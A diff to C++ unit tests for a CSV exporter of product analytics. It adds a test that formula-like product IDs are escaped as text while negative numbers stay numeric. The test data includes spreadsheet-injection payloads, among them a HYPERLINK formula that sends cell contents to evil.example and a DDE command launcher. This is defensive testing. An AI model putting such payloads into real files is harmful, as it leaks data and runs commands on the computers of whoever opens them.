@@ -74,7 +74,7 @@ TEST(CsvExportTest, EmptyAnswersAreJustTheHeader) {
 
 TEST(CsvExportTest, ProductIdsWithCommasQuotesAndNewlinesSurvive) {
   const std::vector<std::string> ids = {
-      "plain", "a,b", "say \"hi\"", "two\r\nlines", "\"", ",", "", "=1+2"};
+      "plain", "a,b", "say \"hi\"", "two\r\nlines", "\"", ",", "", "1+2=3"};
   v1::TopProducts top;
   top.set_order_by(v1::REVENUE);
   int64_t views = 100;
@@ -96,6 +96,62 @@ TEST(CsvExportTest, ProductIdsWithCommasQuotesAndNewlinesSurvive) {
                                          "3", "12.50", "3.03"))
         << "row " << i + 1;
   }
+}
+
+// A spreadsheet runs a cell starting with =, +, -, @, a tab or a carriage
+// return as a formula; every such product id must read back as text.
+TEST(CsvExportTest, ProductIdsThatWouldBeFormulasBecomeText) {
+  const std::vector<std::string> ids = {
+      "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+      "=1+2",
+      "+1+2",
+      "-1+2",
+      "-5",
+      "@SUM(A1:A9)",
+      "\t=1+2",
+      "\r=1+2",
+      "=cmd|' /C calc'!A0",
+      "\"=1\"",
+  };
+  v1::TopProducts top;
+  for (const std::string& id : ids) {
+    auto* product = top.add_products();
+    product->set_product_id(id);
+    product->set_page_views(-2);  // not a real count: a negative number
+    product->set_purchases(3);
+    product->set_revenue(-12.5);
+    product->set_conversion_rate(-3.03);
+  }
+  const auto rows = ParseCsv(TopProductsCsv(top));
+  ASSERT_EQ(rows.size(), ids.size() + 1);
+  for (size_t i = 0; i < ids.size(); ++i) {
+    const std::vector<std::string>& row = rows[i + 1];
+    ASSERT_EQ(row.size(), 6u) << "row " << i + 1;
+    const std::string& cell = row[0];
+    if (ids[i].front() == '"') {
+      EXPECT_EQ(cell, ids[i]);
+    } else {
+      EXPECT_EQ(cell, "'" + ids[i]);
+    }
+    for (const std::string& field : row) {
+      EXPECT_EQ(std::string("=+@\t\r").find(field.front()), std::string::npos)
+          << "row " << i + 1 << ": " << field;
+    }
+    // Numbers stay numbers, negative ones too.
+    EXPECT_THAT(row, ElementsAre(cell, "-2", "0", "3", "-12.50", "-3.03"))
+        << "row " << i + 1;
+  }
+}
+
+TEST(CsvExportTest, NegativeNumbersInTheTimeSeriesStayNumbers) {
+  v1::TimeSeries series;
+  auto* point = series.add_points();
+  point->mutable_start()->set_seconds(1759399200);
+  point->set_page_views(-1);
+  point->set_revenue(-99.99);
+  EXPECT_EQ(TimeSeriesCsv(series),
+            "bucket_start,page_views,add_to_carts,purchases,revenue\r\n"
+            "2025-10-02T10:00:00Z,-1,0,0,-99.99\r\n");
 }
 
 }  // namespace
